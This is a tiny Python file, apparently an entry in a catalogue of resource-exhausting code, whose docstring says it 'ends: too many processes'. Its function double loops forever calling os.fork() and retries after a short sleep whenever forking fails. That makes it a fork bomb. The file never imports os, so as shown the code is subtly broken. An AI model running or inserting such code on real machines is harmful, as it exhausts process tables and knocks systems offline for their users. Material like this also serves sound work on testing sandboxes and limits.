"""Forks and forks.

Ends: too many processes
Sign: starts processes
"""

import time


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
